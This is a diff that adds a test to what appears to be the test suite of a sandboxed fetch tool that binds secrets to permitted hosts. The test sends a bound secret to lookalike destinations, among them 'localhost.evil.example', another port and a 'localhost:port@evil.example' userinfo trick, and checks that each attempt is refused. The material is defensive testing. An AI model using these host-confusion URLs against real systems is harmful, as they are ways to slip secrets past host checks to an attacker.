@@ -61,6 +61,26 @@ describe("secret bindings as data", () => {
   });
 });
 
+describe("lookalike destinations, through the pipe", () => {
+  it("refuse a bound secret for a name that only starts with the bound host, an IP for a name, and another port", async () => {
+    const { p, close } = await project();
+    try {
+      const port = new URL(upstream).port;
+      await p.setSecret("L", `l-${crypto.randomUUID()}`, { hosts: [`http://localhost:${port}`] });
+      await p.setPolicy({ rules: [{ host: upstream, action: "allow" }, { host: inject("otherUpstream"), action: "allow" }] });
+      const t = tag();
+      for (const url of [`http://localhost.evil.example:${port}/echo/${t}`, `${upstream}/echo/${t}`, `${inject("otherUpstream")}/echo/${t}`]) {
+        const err = await rpcError(p.fetch(url, { headers: { "x-k": 'getSecret("L")' } }));
+        expect(err.code, url).toBe("secret_not_bound");
+      }
+      expect((await rpcError(p.fetch(`http://localhost:${port}@evil.example/echo/${t}`, { headers: { "x-k": 'getSecret("L")' } }))).code).toBe("bad_request");
+      expect(await upstreamSeen(upstream, t)).toEqual([]);
+    } finally {
+      close();
+    }
+  });
+});
+
 describe("substitution", () => {
   it("builds Basic auth from two secrets and scrubs the credentials it made", async () => {
     const { p, close } = await project();
